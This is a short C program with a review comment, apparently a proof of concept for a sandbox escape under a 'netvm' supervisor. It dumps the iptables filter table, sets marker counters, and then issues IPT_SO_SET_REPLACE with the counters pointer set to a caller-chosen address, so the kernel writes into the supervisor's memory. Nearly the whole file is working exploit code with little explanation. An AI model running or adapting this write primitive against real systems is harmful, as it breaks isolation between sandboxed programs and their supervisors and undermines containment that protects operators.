/* review: IPT_SO_SET_REPLACE via the shadow socket: the kernel writes the old
 * counters to the (program-chosen) address in the ipt_replace, which under
 * netvm is an address of the supervisor. "dump FILE" (natively) saves the
 * filter table; "replace FILE [ADDR]" adds counters 0x4141.., replaces the
 * table and prints what reached the program's own buffer. */
/* iptables counters written through the shadow socket land in the supervisor's memory. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <linux/netfilter_ipv4/ip_tables.h>
int main(int argc,char**argv){
  int s=socket(AF_INET,SOCK_DGRAM,0);
  static unsigned char blob[4096]; FILE*f;
  struct ipt_getinfo info; struct ipt_get_entries *ge=(void*)blob;
  if(!strcmp(argv[1],"dump")){
    memset(&info,0,sizeof info); strcpy(info.name,"filter"); socklen_t l=sizeof info;
    if(getsockopt(s,IPPROTO_IP,IPT_SO_GET_INFO,&info,&l)){perror("getinfo");return 1;}
    memset(blob,0,sizeof blob); strcpy(ge->name,"filter"); ge->size=info.size; l=sizeof(*ge)+info.size;
    if(getsockopt(s,IPPROTO_IP,IPT_SO_GET_ENTRIES,ge,&l)){perror("getentries");return 1;}
    f=fopen(argv[2],"w"); fwrite(&info,sizeof info,1,f); fwrite(ge->entrytable,info.size,1,f); fclose(f);
    printf("dumped %u entries, %u bytes\n",info.num_entries,info.size); return 0;
  }
  f=fopen(argv[2],"r"); fread(&info,sizeof info,1,f); static unsigned char entries[4096]; fread(entries,info.size,1,f); fclose(f);
  /* counters the program chooses */
  static unsigned char ac[4096]; struct xt_counters_info *ci=(void*)ac; strcpy(ci->name,"filter"); ci->num_counters=info.num_entries;
  for(unsigned i=0;i<info.num_entries;i++){ci->counters[i].pcnt=0x4141414141414141ULL;ci->counters[i].bcnt=0x4242424242424242ULL;}
  if(setsockopt(s,IPPROTO_IP,IPT_SO_SET_ADD_COUNTERS,ci,sizeof(*ci)+info.num_entries*sizeof(struct xt_counters))) perror("add counters");
  static struct xt_counters mine[16]; memset(mine,0,sizeof mine);
  unsigned long target = argc>3 ? strtoul(argv[3],0,0) : (unsigned long)mine;
  static unsigned char rb[8192]; struct ipt_replace*r=(void*)rb; strcpy(r->name,"filter"); r->valid_hooks=info.valid_hooks;
  r->num_entries=info.num_entries; r->size=info.size; memcpy(r->hook_entry,info.hook_entry,sizeof r->hook_entry); memcpy(r->underflow,info.underflow,sizeof r->underflow);
  r->num_counters=info.num_entries; r->counters=(void*)target; memcpy(r->entries,entries,info.size);
  int ret=setsockopt(s,IPPROTO_IP,IPT_SO_SET_REPLACE,r,sizeof(*r)+info.size);
  printf("SET_REPLACE=%d %s; counters to %#lx; my buffer's first counter: %#llx\n",ret,ret?strerror(errno):"",target,(unsigned long long)mine[0].pcnt);
  return 0;
}
